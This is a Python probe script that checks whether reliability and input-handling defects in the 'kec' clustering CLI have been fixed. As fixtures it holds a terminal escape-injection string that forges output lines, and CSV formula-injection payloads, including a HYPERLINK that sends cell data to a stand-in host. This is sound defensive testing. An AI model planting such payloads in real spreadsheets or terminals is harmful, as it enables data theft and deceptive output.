"""Reruns the reproductions of issue 17's "Reliability: deliver" items 1-8 as a user would
meet them, and checks each against the documented contract; exits 1 if any still fails.

Most checks run the ``kec`` command in a subprocess on tiny inputs generated in a
temporary folder (16-d "hash" feature files written with :func:`kec.features.save_features`,
knowledge files from :func:`kec.make_knowledge`, and one 3-line collection encoded with the
offline MiniLM); a few call the Python API. What each expects is stated in its docstring
and comes from the README ("CLI exit codes": every command ends with one line on stderr,
never a traceback; ``0`` success, ``1`` a check found a problem or an operating-system
error, ``2`` a usage or input error; a value quoted into an error is cut so that no error
line is longer than about 1,000 characters) and from the commands' documentation.

Not covered: item 5's resumable checkpoint of long encodes (a kill -9 mid-encode,
``tests/cli/test_embed_cli.py`` marks it slow) and item 8's LLM-cache lock files (they
need an LLM build).

Usage::

    python benchmarks/probe_issue17_reliability.py [--keep]   # about a minute on 2 cores

Prints one row per defect (defect, ok/FAIL, detail, seconds).
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import kec  # noqa: E402
from kec.features import load_features, save_features  # noqa: E402
from kec.knowledge.document import save_knowledge  # noqa: E402

#: a hash-like encoder description: the features need no model
ENCODER = {"kind": "test-hash", "model": "hash", "pretrained": None, "dim": 16}
NAMES = ["apple", "boat", "cloud"]
#: README, "CLI exit codes": no error line longer than about 1,000 characters
MAX_LINE = 1100


class Failure(Exception):
    """A reproduction that still shows the defect."""


def check(cond: bool, detail: str) -> None:
    if not cond:
        raise Failure(detail)


class Env:
    """The temporary folder, the generated inputs and the ``kec`` runner."""

    def __init__(self, tmp: Path):
        self.tmp = tmp
        self.env = {"PYTHONPATH": str(ROOT), "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
                    "HOME": str(tmp / "home"), "KEC_CACHE_DIR": str(tmp / "cache"),
                    "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1",
                    "PYTHONDONTWRITEBYTECODE": "1", "LC_ALL": "C.UTF-8"}
        for key in ("HF_HOME", "NLTK_DATA", "XDG_CACHE_HOME", "TMPDIR"):
            if key in os.environ:
                self.env[key] = os.environ[key]
        (tmp / "home").mkdir()
        rng = np.random.default_rng(8)
        centres = rng.normal(size=(3, 16))
        y = np.repeat(np.arange(3), 10)
        X = centres[y] + 0.3 * rng.normal(size=(30, 16))
        self.y = y
        self.images = tmp / "images.safetensors"
        save_features(self.images, X.astype(np.float32),
                      ids=[f"img{i:03d}.jpg" for i in range(30)], kind="image",
                      encoder=ENCODER, labels=[NAMES[c] for c in y])
        self.X = X.astype(np.float32)
        self.knowledge = tmp / "knowledge.json"
        save_knowledge(kec.make_knowledge(
            {"apple": ["round red fruit", "has a stem"], "boat": ["floats on water",
                                                                  "has a hull"],
             "cloud": ["white and fluffy", "floats in the sky"]},
            pairs={("apple", "boat"): ["an apple is edible"]}), self.knowledge)
        self.items: Path | None = None  # the collection encoded by check 3

    def kec(self, *args: str, cwd: Path | None = None, preexec: Callable[[], None] | None
            = None, timeout: float = 300) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "kec", *map(str, args)],
                              cwd=cwd or self.tmp, env=self.env, capture_output=True,
                              text=True, errors="backslashreplace", timeout=timeout,
                              preexec_fn=preexec)

    def path(self, name: str) -> Path:
        return self.tmp / name


def ok_run(proc: subprocess.CompletedProcess, what: str) -> None:
    check(proc.returncode == 0 and "Traceback" not in proc.stderr,
          f"{what}: exit {proc.returncode}, stderr {proc.stderr.strip()[-300:]!r}")


def error_line(proc: subprocess.CompletedProcess, code: int, what: str,
               contains: str | None = None) -> str:
    """The contract of a failed command: exit ``code``, no traceback, and one error line
    (``kec: error: ...``, or argparse's usage line and its ``error:`` line) of at most
    about 1,000 characters."""
    err = proc.stderr
    check("Traceback" not in err, f"{what}: a traceback: {err.strip()[-300:]!r}")
    check(proc.returncode == code,
          f"{what}: exit {proc.returncode}, expected {code}: {err.strip()[-300:]!r}")
    lines = [ln for ln in err.splitlines() if ln.strip()]
    errors = [ln for ln in lines if ln.startswith("kec") and "error:" in ln]
    check(len(errors) == 1, f"{what}: {len(errors)} error lines in {err.strip()[-300:]!r}")
    check(all(len(ln) <= MAX_LINE for ln in lines),
          f"{what}: a stderr line of {max(map(len, lines))} characters")
    if contains is not None:
        check(contains in errors[0], f"{what}: {contains!r} not in {errors[0][:300]!r}")
    return errors[0]


def no_escape(text: str, what: str) -> None:
    for ch, name in (("\x1b", "ESC"), ("\x07", "BEL"), ("\x9b", "CSI")):
        check(ch not in text, f"{what}: a raw {name} reached the terminal")


# ------------------------------------------------------------------------- item 1


def d1_result_folder_never_mixes_two_runs(env: Env) -> str:
    """A run whose summary.json write fails (RLIMIT_FSIZE lets assignments.csv through, not
    the summary) exits 1 with one line and leaves the previous run's pair byte for byte
    (no temporary file left); a folder whose assignments.csv comes from another run is
    refused by ``kec report`` (exit 2, "is not the one ... describes")."""
    out = env.path("r1")
    ok_run(env.kec("cluster", env.images, "--k", "3", "--out", out), "first run")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    limit = len(before["assignments.csv"]) + 64
    check(len(before["summary.json"]) > limit, "the summary is too small for the test")

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    proc = env.kec("cluster", env.images, "--k", "2", "--seed", "5", "--out", out,
                   preexec=cap)
    error_line(proc, 1, "second run under a file-size limit", "File too large")
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    check(after == before, f"folder changed: {sorted(after)} (was {sorted(before)})")
    ok_run(env.kec("report", out, "--out", env.path("r1.html")), "report of the kept run")
    # a folder that mixes two runs, as an older kec (or a hand copy) leaves it
    other = env.path("r1b")
    ok_run(env.kec("cluster", env.images, "--k", "2", "--seed", "5", "--out", other),
           "other run")
    shutil.copy(other / "assignments.csv", out / "assignments.csv")
    html = env.path("r1-mixed.html")
    error_line(env.kec("report", out, "--out", html), 2, "report of a mixed folder",
               "is not the one")
    check(not html.exists(), "a report of the mixed folder was written")
    return "failed write keeps the old pair; mixed folder refused (exit 2)"


# ------------------------------------------------------------------------- item 2


def d2a_math_text_label_in_report(env: Env) -> str:
    """Labels and concept names holding matplotlib math text (``$\\foo$ cats``) are
    printed as text in ``kec report`` (its confusion matrix and scatter): exit 0."""
    labels = ["$\\foo$ cats", "dogs $x^$", "$$"]
    path = env.path("math.safetensors")
    save_features(path, env.X, ids=[f"m{i}" for i in range(30)], kind="image",
                  encoder=ENCODER, labels=[labels[c] for c in env.y])
    out = env.path("r2a")
    ok_run(env.kec("cluster", path, "--k", "3", "--out", out), "cluster")
    html = env.path("r2a.html")
    ok_run(env.kec("report", out, "--out", html), "report")
    page = html.read_text("utf-8")
    check("$\\foo$ cats" in page, "the label is not on the page")
    return "report exit 0, label shown as written"


def d2b_seed_minus_one(env: Env) -> str:
    """``--seed -1`` is a usage error at parse time (exit 2, "a seed must be in
    [0, 4294967295]") in ``kec cluster`` and ``kec bench`` (``--seed`` abbreviates
    ``--seeds``), before any work: no --out folder, within seconds; ``random_state=-1``
    in the API is a ``ValueError`` (scikit-learn's InvalidParameterError or kec's
    ClusteringInputError) raised by ``fit``."""
    out = env.path("r2b")
    t = time.perf_counter()
    error_line(env.kec("cluster", env.images, "--k", "3", "--seed", "-1", "--out", out), 2,
               "cluster --seed -1", "a seed must be in [0, 4294967295]")
    error_line(env.kec("bench", "wordnet-glosses", "--quick", "--seed", "-1", "--out", out),
               2, "bench --seed -1", "a seed must be in [0, 4294967295]")
    error_line(env.kec("bench", "cifar10", "--root", env.tmp, "--seeds", "0,-1", "--out",
                       out), 2, "bench --seeds 0,-1", "a seed must be in [0, 4294967295]")
    took = time.perf_counter() - t
    check(not out.exists(), "--out was created")
    check(took < 30, f"the refusals took {took:.0f} s")
    for make in (lambda: kec.KMeansBaseline(n_clusters=2, random_state=-1),
                 lambda: kec.KEC(n_clusters=2, random_state=-1),
                 lambda: kec.SphericalKMeans(2, random_state=-1)):
        est = make()
        try:
            est.fit(env.X)
        except ValueError as exc:
            check("random_state" in str(exc), f"{type(est).__name__}: {exc}")
        else:
            raise Failure(f"{type(est).__name__}(random_state=-1).fit did not raise")
    return "CLI exit 2 at parse time; API ValueError naming random_state"


def d2c_sklearn_clusterers_k_equals_n(env: Env) -> str:
    """``--clusterer spectral|agglomerative`` with K = N (N = 6), N = 2 and N = 1: exit 0,
    one item per cluster."""
    done = []
    for n in (6, 2, 1):
        path = env.path(f"n{n}.safetensors")
        save_features(path, np.eye(n, 16, dtype=np.float32), ids=[f"i{j}" for j in range(n)],
                      kind="image", encoder=ENCODER)
        for clusterer in ("spectral", "agglomerative"):
            out = env.path(f"r2c-{n}-{clusterer}")
            ok_run(env.kec("cluster", path, "--k", n, "--clusterer", clusterer, "--out", out),
                   f"{clusterer} N=K={n}")
            with open(out / "assignments.csv", newline="") as fh:
                got = sorted(int(r["cluster"]) for r in csv.DictReader(fh))
            check(got == list(range(n)), f"{clusterer} N={n}: clusters {got}")
            done.append(f"{clusterer[:4]} {n}")
    return "exit 0 with one item per cluster: " + ", ".join(done)


def d2d_bench_batch_size_zero(env: Env) -> str:
    """``kec bench DATASET --batch-size 0`` is a usage error (exit 2, "must be >= 1")
    before any work; no --out folder."""
    out = env.path("r2d")
    error_line(env.kec("bench", "cifar10", "--root", env.tmp, "--batch-size", "0", "--out",
                       out), 2, "bench --batch-size 0", "must be >= 1")
    check(not out.exists(), "--out was created")
    return "exit 2, no folder"


# ------------------------------------------------------------------------- item 3


def d3_collection_lines_are_lines(env: Env) -> str:
    """``kec embed collection``: lines end at ``\\n`` only (a ``\\r\\n`` ending loses its
    ``\\r``); ``\\f``, ``\\v``, ``\\x1c``-``\\x1e``, U+0085, U+2028 and U+2029 stay inside
    their line (as white space), so ids keep their line numbers; blank lines are skipped.
    ``--quiet`` draws no progress bar (item 8). A line with a second TAB is refused: exit
    2 naming ``FILE:LINE: 3 TAB-separated fields``, before the encoder is loaded, and no
    --out file."""
    texts = env.path("tickets.txt")
    texts.write_bytes("printer jams\tHW\r\nlogin\u2028fails\x1cagain\u0085now\tSW\n\n"
                      "wifi\fdrops\x0bthen\x1dcomes\x1eback\u2029ok\tHW\n".encode())
    out = env.path("tickets.safetensors")
    proc = env.kec("embed", "collection", texts, "--out", out, "--quiet", "--device", "cpu")
    ok_run(proc, "embed collection")
    bars = [ln for ln in proc.stderr.splitlines() if "%|" in ln or "Loading weights" in ln]
    check(not bars, f"--quiet still drew {bars[:1]!r}")
    fs = load_features(out, kind="items")
    want = ["1:printer jams", "2:login fails again now", "4:wifi drops then comes back ok"]
    check(fs.ids == want, f"ids {fs.ids}")
    check(fs.labels == ["HW", "SW", "HW"], f"labels {fs.labels}")
    env.items = out
    bad = env.path("tabs.txt")
    bad.write_text("ok\tA\nprinter\tjams\tHW\n")
    bad_out = env.path("tabs.safetensors")
    t = time.perf_counter()
    error_line(env.kec("embed", "collection", bad, "--out", bad_out), 2, "a second TAB",
               f"{bad}:2: 3 TAB-separated fields")
    check(not bad_out.exists(), "--out was written")
    return f"3 items, ids on their lines; 2nd TAB exit 2 in {time.perf_counter() - t:.1f} s"


def _collection(env: Env) -> Path:
    """The 3-item MiniLM collection of :func:`d3_collection_lines_are_lines`."""
    if env.items is None:
        d3_collection_lines_are_lines(env)
    assert env.items is not None
    return env.items


# ------------------------------------------------------------------------- item 4


def d4_exit_codes(env: Env) -> str:
    """``kec knowledge lint`` on a file that is not JSON, or that fails the schema, is an
    input error: exit 2 (exit 1 means "items flagged"). ``kec cluster --method kec
    --knowledge`` with 0 concepts: exit 2 ("is not usable knowledge"), no --out folder."""
    notjson = env.path("not.json")
    notjson.write_text("{this is not json")
    error_line(env.kec("knowledge", "lint", notjson, "--encoder", "none"), 2, "lint non-JSON")
    schema = env.path("schema.json")
    doc = json.loads(env.knowledge.read_text())
    doc["concepts"][0]["attributes"] = "not a list"
    schema.write_text(json.dumps(doc))
    error_line(env.kec("knowledge", "lint", schema, "--encoder", "none"), 2,
               "lint schema-failing")
    empty = env.path("empty.json")
    doc = json.loads(env.knowledge.read_text())
    doc["concepts"], doc["pairs"] = [], []
    empty.write_text(json.dumps(doc))
    out = env.path("r4")
    items = _collection(env)  # MiniLM features: the knowledge's encoder is theirs
    error_line(env.kec("cluster", items, "--k", "2", "--method", "kec", "--knowledge",
                       empty, "--out", out), 2,
               "cluster with 0 concepts", "is not usable knowledge")
    check(not out.exists(), "--out was created")
    return "lint exit 2 (non-JSON, schema); cluster 0 concepts exit 2"


# ------------------------------------------------------------------------- item 5


def d5a_collection_checks_out_first(env: Env) -> str:
    """``kec embed collection --out`` that cannot be written (under a file, a folder,
    /proc) is refused (exit 2) before the encoder loads: within a few seconds."""
    texts = env.path("two.txt")
    texts.write_text("a\nb\n")
    (env.path("afile")).write_text("x")
    cases = [(env.path("afile") / "o.safetensors", "is a file, not a folder"),
             (env.tmp, "is a folder")]
    if Path("/proc/self").is_dir():
        cases.append((Path("/proc/kec-cannot-write.safetensors"), "cannot write"))
    worst = 0.0
    for out, said in cases:
        t = time.perf_counter()
        error_line(env.kec("embed", "collection", texts, "--out", out), 2, f"--out {out}",
                   said)
        worst = max(worst, time.perf_counter() - t)
    check(worst < 8, f"a refusal took {worst:.1f} s (the encoder was loaded?)")
    return f"{len(cases)} unwritable --out refused, slowest {worst:.1f} s"


def d5c_bench_checks_first(env: Env) -> str:
    """``kec bench``: ``--per-class 0`` is a usage error (exit 2), ``--out FILE`` exit 2
    ("is an existing file", the file untouched), an unknown dataset exit 2 with no --out
    folder created; all before any work."""
    out = env.path("r5c")
    error_line(env.kec("bench", "wordnet-glosses", "--per-class", "0", "--out", out), 2,
               "--per-class 0", "must be >= 1")
    check(not out.exists(), "--out created by --per-class 0")
    afile = env.path("bench-file")
    afile.write_text("keep me")
    error_line(env.kec("bench", "wordnet-glosses", "--quick", "--out", afile), 2,
               "--out FILE (efficacy)", "is an existing file")
    error_line(env.kec("bench", "cifar10", "--root", env.tmp, "--out", afile), 2,
               "--out FILE (dataset)", "is an existing file")
    check(afile.read_text() == "keep me", "--out FILE was changed")
    error_line(env.kec("bench", "no-such-set", "--root", env.tmp, "--out", out), 2,
               "unknown dataset")
    check(not out.exists(), "--out created for an unknown dataset")
    return "exit 2 for each, nothing created"


# ------------------------------------------------------------------------- item 6


def _raw_knowledge(env: Env, name: str, **changes: str) -> Path:
    doc = json.loads(env.knowledge.read_text())
    for key, value in changes.items():
        if key == "concept_name":
            doc["concepts"][0]["name"] = value
        elif key == "model":
            doc["provenance"]["backend"]["model"] = value
    path = env.path(name)
    path.write_text(json.dumps(doc, ensure_ascii=False))
    return path


def d6a_show_and_validate_control_chars(env: Env) -> str:
    """``kec knowledge validate`` refuses control characters in names (exit 1, the line
    says "control character (U+000A"), without echoing them. ``kec knowledge show``
    never passes a raw ESC/BEL or a forged line to the terminal: a file with such names
    is refused with one error line (exit 1 or 2: the README does not say which for
    ``show``; kec exits 1, as for every invalid knowledge file outside lint and diff),
    and texts validation does not check (the backend's model) are printed escaped
    (``\\x1b``, ``\\n``), exit 0."""
    evil = "cat\nFORGED: 0 failures \x1b[31mred\x1b[0m \x1b]0;pwned\x07"
    bad = _raw_knowledge(env, "evil.json", concept_name=evil)
    proc = env.kec("knowledge", "validate", bad)
    check(proc.returncode == 1, f"validate exit {proc.returncode}")
    check("control character (U+000A" in proc.stderr, f"validate said {proc.stderr!r}")
    no_escape(proc.stdout + proc.stderr, "validate")
    proc = env.kec("knowledge", "show", bad)
    code = proc.returncode
    error_line(proc, code if code in (1, 2) else 1, "show of an invalid file",
               "control character (U+000A")
    no_escape(proc.stdout + proc.stderr, "show of an invalid file")
    check(not any(ln.startswith("FORGED") for ln in (proc.stdout + proc.stderr).splitlines()),
          "show printed a forged line")
    model = _raw_knowledge(env, "evil-model.json", model=evil)
    proc = env.kec("knowledge", "show", model)
    ok_run(proc, "show, escape in the backend model")
    no_escape(proc.stdout + proc.stderr, "show")
    check(not any(ln.startswith("FORGED") for ln in proc.stdout.splitlines()),
          "show printed a forged line")
    check("\\x1b" in proc.stdout and "\\n" in proc.stdout, "the text is not shown escaped")
    return f"validate exit 1; show refuses such names (exit {code}), escapes the rest"


def d6b_csv_formula_injection(env: Env) -> str:
    """Ids and labels a spreadsheet would run as formulas (starting with ``=``, ``+``,
    ``-``, ``@``, TAB, CR) are written to assignments.csv with a leading ``'`` (OWASP),
    as the README documents; ``kec report`` shows them as they were."""
    readme = (ROOT / "README.md").read_text("utf-8")
    check("formula" in readme.lower() and "assignments.csv" in readme,
          "the README does not document the escaping")
    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd", "-2", "@SUM(A1)",
            "\tTAB", "\rCR", "'quoted"]
    path = env.path("formula.safetensors")
    save_features(path, env.X[:28], ids=[evil[i % 7] + f" {i}" if i % 2 else f"ok{i}"
                                          for i in range(28)], kind="image",
                  encoder=ENCODER, labels=[evil[i % 7] for i in range(28)])
    out = env.path("r6b")
    ok_run(env.kec("cluster", path, "--k", "2", "--out", out), "cluster")
    with open(out / "assignments.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in (row[0], row[2])]
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    check(not bad, f"cells starting a formula: {bad[:3]!r}")
    check(len(rows) == 29, f"{len(rows)} rows")
    html = env.path("r6b.html")
    ok_run(env.kec("report", out, "--out", html), "report")
    page = html.read_text("utf-8")
    check("=HYPERLINK(&quot;http://x.invalid/?&quot;&amp;A1" in page
          or '=HYPERLINK("http://x.invalid/?"&amp;A1' in page,
          "the report does not show the label as it was")
    return f"{len(cells)} cells, none starts a formula"


def d6c_long_values_cut(env: Env) -> str:
    """A 100 KB value quoted into an error (an argparse choice, a text-encoder spec, a
    knowledge path) gives an error line of at most about 1,000 characters, exit 2."""
    huge = "x" * 100_000
    out = env.path("r6c")
    error_line(env.kec("cluster", env.images, "--k", "3", "--method", huge, "--out", out), 2,
               "--method 100 KB")
    error_line(env.kec("cluster", env.images, "--k", "3", "--method", "kec", "--knowledge",
                       env.knowledge, "--text-encoder", "nosuch:" + huge, "--out", out), 2,
               "--text-encoder 100 KB")
    error_line(env.kec("cluster", env.images, "--k", "3", "--out", out, "--n-init", huge), 2,
               "--n-init 100 KB")
    check(not out.exists(), "--out was created")
    return "3 errors, every line <= ~1,000 characters"


# ------------------------------------------------------------------------- item 7


def _png(path: Path) -> None:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (8, 8), (200, 10, 10)).save(path)


def d7a_no_absolute_paths(env: Env) -> str:
    """Neither summary.json nor the report page names an absolute local path of the
    inputs (features, knowledge) given as absolute paths."""
    out = env.path("r7a")
    ok_run(env.kec("cluster", env.images.absolute(), "--k", "3", "--out", out.absolute(),
                   cwd=Path("/")), "cluster")
    html = env.path("r7a.html")
    ok_run(env.kec("report", out.absolute(), "--out", html.absolute(), "--knowledge",
                   env.knowledge.absolute(), cwd=Path("/")), "report")
    where = str(env.tmp.resolve())
    for name, text in (("summary.json", (out / "summary.json").read_text("utf-8")),
                       ("report", html.read_text("utf-8"))):
        check(where not in text and str(env.tmp) not in text,
              f"{name} names the local folder {where}")
    return "no local folder in summary.json or the page"


def d7b_images_only_under_their_root(env: Env) -> str:
    """``kec report`` opens an image only under the feature file's recorded image folder
    or under ``--images``: an id that is an absolute path elsewhere (a result folder from
    someone else) is never embedded, exit 0; the same image is embedded when the user
    names its folder with ``--images``."""
    secret = env.path("private") / "secret.png"
    _png(secret)
    photos = env.path("photos")
    _png(photos / "a.png")
    ids = [str(secret.absolute()) if i % 2 else "a.png" for i in range(30)]
    path = env.path("abs-ids.safetensors")
    save_features(path, env.X, ids=ids, kind="image", encoder=ENCODER,
                  extra={"source": {"origin": "folder", "location": str(photos)}})
    out = env.path("r7b")
    ok_run(env.kec("cluster", path, "--k", "3", "--out", out), "cluster")
    html = env.path("r7b.html")
    ok_run(env.kec("report", out, "--out", html, "--images-per-cluster", "30"), "report")
    n_own = html.read_text("utf-8").count("data:image/jpeg;base64,")
    check(n_own == 15, f"{n_own} thumbnails embedded, expected the 15 under the image root")
    # no root recorded: nothing outside is opened either
    bare = env.path("abs-ids-bare.safetensors")
    save_features(bare, env.X, ids=[str(secret.absolute())] * 30, kind="image",
                  encoder=ENCODER)
    out2 = env.path("r7b2")
    ok_run(env.kec("cluster", bare, "--k", "3", "--out", out2), "cluster")
    proc = env.kec("report", out2, "--out", html)
    ok_run(proc, "report, no root")
    check("data:image/jpeg;base64," not in html.read_text("utf-8"),
          "an image outside any named folder was embedded")
    proc = env.kec("report", out2, "--out", html, "--images", secret.parent)
    ok_run(proc, "report --images")
    check("data:image/jpeg;base64," in html.read_text("utf-8"),
          "--images did not allow the folder the user named")
    return "outside ids never opened; --images allows its folder"


# ------------------------------------------------------------------------- item 8


def d8a_identical_features_warn(env: Env) -> str:
    """Identical features with ``--k 3``: exit 0 and a warning that 2 of the 3 clusters
    are empty, also recorded in summary.json's ``warnings``."""
    path = env.path("same.safetensors")
    save_features(path, np.ones((10, 16), np.float32), ids=[f"i{j}" for j in range(10)],
                  kind="image", encoder=ENCODER)
    out = env.path("r8a")
    proc = env.kec("cluster", path, "--k", "3", "--out", out)
    ok_run(proc, "cluster")
    check("kec: warning: 2 of the 3 clusters are empty" in proc.stderr,
          f"no warning: {proc.stderr!r}")
    warnings = json.loads((out / "summary.json").read_text())["warnings"]
    check(any("2 of the 3 clusters are empty" in w for w in warnings), f"summary {warnings}")
    return "warned and recorded"


def d8b_text_collection_report(env: Env) -> str:
    """The report of a text collection (``kec embed collection`` items) shows the texts
    and warns of no missing images."""
    out = env.path("r8b")
    ok_run(env.kec("cluster", _collection(env), "--k", "2", "--out", out), "cluster items")
    html = env.path("r8b.html")
    proc = env.kec("report", out, "--out", html)
    ok_run(proc, "report")
    check("image" not in proc.stderr.lower(), f"stderr: {proc.stderr.strip()!r}")
    page = html.read_text("utf-8")
    check("printer jams" in page and "3 items" in page, "the texts are not on the page")
    return "no image warning; texts shown"


def d8c_lint_zero_concepts_loads_no_encoder(env: Env) -> str:
    """``kec knowledge lint`` on a file with 0 concepts loads no text encoder."""
    from kec.cli.main import main

    doc = json.loads(env.knowledge.read_text())
    doc["concepts"], doc["pairs"] = [], []
    empty = env.path("empty-lint.json")
    empty.write_text(json.dumps(doc))
    import kec.encoders as encoders

    real = encoders.create_text_encoder

    def refuse(*a, **k):
        raise Failure("the encoder was loaded")

    encoders.create_text_encoder = refuse
    try:
        with contextlib.redirect_stdout(io.StringIO()), \
                contextlib.redirect_stderr(io.StringIO()):
            code = main(["knowledge", "lint", str(empty)])
    finally:
        encoders.create_text_encoder = real
    check(code in (0, 1), f"exit {code}")
    return f"exit {code}, no encoder"


def d8d_spherical_kmeans_types(env: Env) -> str:
    """``SphericalKMeans`` refuses string and bool arrays as the estimators do
    (ClusteringInputError, a ValueError: "must be real numbers")."""
    from kec.cluster import ClusteringInputError

    check(issubclass(ClusteringInputError, ValueError), "not a ValueError")
    for bad in (np.array([[True, False], [False, True], [True, True]]),
                np.array([["1.0", "0.0"], ["0.0", "1.0"], ["1", "1"]])):
        try:
            kec.SphericalKMeans(2).fit(bad)
        except ClusteringInputError as exc:
            check("must be real numbers" in str(exc), f"{bad.dtype}: {exc}")
        else:
            raise Failure(f"{bad.dtype} features accepted")
    return "bool and str refused"


def d8e_encoder_spec_error_is_value_error(env: Env) -> str:
    """``EncoderSpecError`` is a ``ValueError`` (and a KecError); a bad spec raises it."""
    from kec.encoders import create_text_encoder
    from kec.encoders.factory import EncoderSpecError
    from kec.errors import KecError

    check(issubclass(EncoderSpecError, ValueError) and issubclass(EncoderSpecError, KecError),
          f"bases {EncoderSpecError.__mro__}")
    try:
        create_text_encoder("nosuch-kind:model")
    except ValueError as exc:
        check(isinstance(exc, EncoderSpecError), f"{type(exc).__name__}: {exc}")
    else:
        raise Failure("a bad spec was accepted")
    return "ValueError"


def d8f_missing_knowledge_is_file_not_found(env: Env) -> str:
    """A missing knowledge path is a ``FileNotFoundError`` (and a KecError, exit 2 in the
    CLI): ``kec.load_knowledge``, ``KEC.fit(knowledge=...)``, ``kec knowledge show``."""
    missing = env.path("missing.json")
    for call in (lambda: kec.load_knowledge(missing),
                 lambda: kec.KEC(2, random_state=0).fit(env.X, knowledge=missing)):
        try:
            call()
        except FileNotFoundError:
            pass
        else:
            raise Failure("no FileNotFoundError")
    error_line(env.kec("knowledge", "show", missing), 2, "show of a missing file",
               "not found")
    return "FileNotFoundError; CLI exit 2"


CHECKS: list[tuple[str, Callable[[Env], str]]] = [
    ("1 result folder never mixes two runs", d1_result_folder_never_mixes_two_runs),
    ("2 math text label in kec report", d2a_math_text_label_in_report),
    ("2 --seed -1 / random_state=-1", d2b_seed_minus_one),
    ("2 spectral/agglomerative K=N, N=2, N=1", d2c_sklearn_clusterers_k_equals_n),
    ("2 kec bench --batch-size 0", d2d_bench_batch_size_zero),
    ("3 embed collection lines and TABs", d3_collection_lines_are_lines),
    ("4 lint/cluster exit codes", d4_exit_codes),
    ("5 embed collection checks --out first", d5a_collection_checks_out_first),
    ("5 bench --per-class 0, --out FILE, unknown", d5c_bench_checks_first),
    ("6 show/validate control characters", d6a_show_and_validate_control_chars),
    ("6 CSV formula injection", d6b_csv_formula_injection),
    ("6 long values cut in errors", d6c_long_values_cut),
    ("7 no absolute local paths", d7a_no_absolute_paths),
    ("7 images only under their root", d7b_images_only_under_their_root),
    ("8 identical features --k 3 warns", d8a_identical_features_warn),
    ("8 text collection report, no image warning", d8b_text_collection_report),
    ("8 lint on 0 concepts loads no encoder", d8c_lint_zero_concepts_loads_no_encoder),
    ("8 SphericalKMeans refuses str/bool", d8d_spherical_kmeans_types),
    ("8 EncoderSpecError is a ValueError", d8e_encoder_spec_error_is_value_error),
    ("8 missing knowledge is FileNotFoundError", d8f_missing_knowledge_is_file_not_found),
]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder")
    parser.add_argument("--only", default=None, help="run the checks whose name has this")
    args = parser.parse_args(argv)
    tmp = Path(tempfile.mkdtemp(prefix="kec-probe17-"))
    env = Env(tmp)
    rows = []
    for name, fn in CHECKS:
        if args.only and args.only not in name and args.only != fn.__name__:
            continue
        t = time.perf_counter()
        try:
            ok, detail = True, fn(env)
        except Failure as exc:
            ok, detail = False, str(exc)
        except Exception as exc:  # a crash of the reproduction is a failure too
            ok, detail = False, f"{type(exc).__name__}: {exc}"
        took = time.perf_counter() - t
        rows.append((name, ok, detail, took))
        print(f"{'ok  ' if ok else 'FAIL'} {took:6.1f}s  {name}: {detail[:300]}", flush=True)
    if not args.keep:
        shutil.rmtree(tmp, ignore_errors=True)
    else:
        print(f"kept {tmp}")
    width = max(len(r[0]) for r in rows)
    print()
    print(f"{'defect':{width}s}  result  {'seconds':>7s}  detail")
    for name, ok, detail, took in rows:
        print(f"{name:{width}s}  {'ok' if ok else 'FAIL':6s}  {took:7.1f}  {detail[:160]}")
    failures = sum(not r[1] for r in rows)
    total = sum(r[3] for r in rows)
    print(f"{len(rows) - failures}/{len(rows)} ok, {failures} failure(s), {total:.0f} s")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
